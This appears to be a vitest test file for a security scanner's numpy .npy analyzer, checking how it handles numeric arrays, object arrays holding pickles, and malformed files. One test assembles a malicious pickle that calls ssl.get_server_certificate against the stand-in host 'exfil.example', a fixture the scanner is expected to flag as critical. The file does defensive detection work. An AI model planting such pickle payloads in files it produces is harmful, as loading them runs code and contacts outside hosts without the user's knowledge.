import { describe, expect, it } from "vitest";
import { MalformedError } from "../../core/errors.js";
import { createBufferSource } from "../../core/source.js";
import { pickle } from "../pickle/testing/assembler.js";
import { createTestContext } from "../pickle/testing/context.js";
import { numpyAnalyzer } from "./analyzer.js";
import { npy } from "./testing/npy.js";

async function analyze(bytes: Buffer): Promise<{ rules: string[]; error: unknown; read: number; offsets: Array<number | undefined> }> {
  const t = createTestContext();
  const source = createBufferSource(bytes);
  let error: unknown;
  try {
    await numpyAnalyzer.analyze({ path: "a.npy", name: "a.npy", depth: 0, source }, t.ctx);
  } catch (e) {
    error = e;
  }
  return { rules: t.findings.map((f) => `${f.ruleId}:${f.severity}`), error, read: source.counter.bytesRead, offsets: t.findings.map((f) => f.location.offset) };
}

describe("numpyAnalyzer", () => {
  it("passes numeric arrays without reading their data", async () => {
    const data = Buffer.alloc(1 << 20, 0x63); // "ccc…" would be GLOBAL opcodes if anyone parsed it
    const o = await analyze(npy("{'descr': '<f4', 'fortran_order': False, 'shape': (262144,), }", 1, data));
    expect(o.rules).toEqual([]);
    expect(o.error).toBeUndefined();
    expect(o.read).toBeLessThan(100_000);
  });

  it("analyses an object array's pickle and reports what it calls, at file offsets", async () => {
    const payload = pickle(3).global("ssl", "get_server_certificate").str("exfil.example").binint2(443).tuple2().tuple1().reduce().stop().done();
    const file = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", 1, payload);
    const o = await analyze(file);
    expect(o.rules).toEqual(["numpy/object-array:low", "pickle/dangerous-global:critical"]);
    expect(o.offsets[1]).toBe(file.length - payload.length + 2);
  });

  it("notes a benign object array as low only", async () => {
    const payload = pickle(3).global("numpy.core.multiarray", "_reconstruct").global("numpy", "ndarray").binint1(0).tuple1().bytes("b").tuple3().reduce().stop().done();
    const o = await analyze(npy("{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }", 2, payload));
    expect(o.rules).toEqual(["numpy/object-array:low"]);
    expect(o.error).toBeUndefined();
  });

  it("reports a broken object pickle as unparseable, and a broken header as malformed", async () => {
    const cut = await analyze(npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", 1, pickle(3).mark().done()));
    expect(cut.error).toBeInstanceOf(MalformedError);
    expect((cut.error as Error).message).toMatch(/^object array data: /);
    const header = await analyze(npy("{'descr': '|O', 'fortran_order': False}"));
    expect(header.error).toBeInstanceOf(MalformedError);
  });
});
